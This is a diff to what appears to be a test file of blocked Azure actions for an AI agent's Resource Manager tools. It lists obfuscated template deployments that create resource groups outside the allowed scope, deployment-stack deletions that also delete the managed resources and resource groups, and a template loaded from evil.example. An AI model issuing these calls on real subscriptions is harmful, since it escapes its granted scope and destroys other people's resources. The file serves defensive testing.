@@ -95,6 +95,20 @@ export function azureAttempts({
       }),
       deploy(open, { mode: 'Incremental', templateLink: { uri: 'https://evil.example/template.json' } }),
       deploy(open, template({ ...storage(), scope: "[concat('/', 'x')]" })),
+      deploy(
+        own,
+        template({ ...storage(), type: "[concat('Microsoft.Resources', '/resourceGroups')]", name: closedGroup }),
+      ),
+      deploy(open, template({ ...storage(), extension: 'other', type: 'Other/things@v1' })),
+      write('DELETE', `${open}/providers/Microsoft.Resources/deploymentStacks/s?unmanageAction.Resources=delete`),
+      {
+        tool: 'arm_write',
+        args: {
+          method: 'DELETE',
+          path: `${open}/providers/Microsoft.Resources/deploymentStacks/s`,
+          params: { 'UnmanageAction.ResourceGroups': 'Delete' },
+        },
+      },
     ],
     'Azure: another subscription': [
       write('PUT', `/subscriptions/${otherSubscription}/resourceGroups/rg-new`, { location: 'westeurope' }),
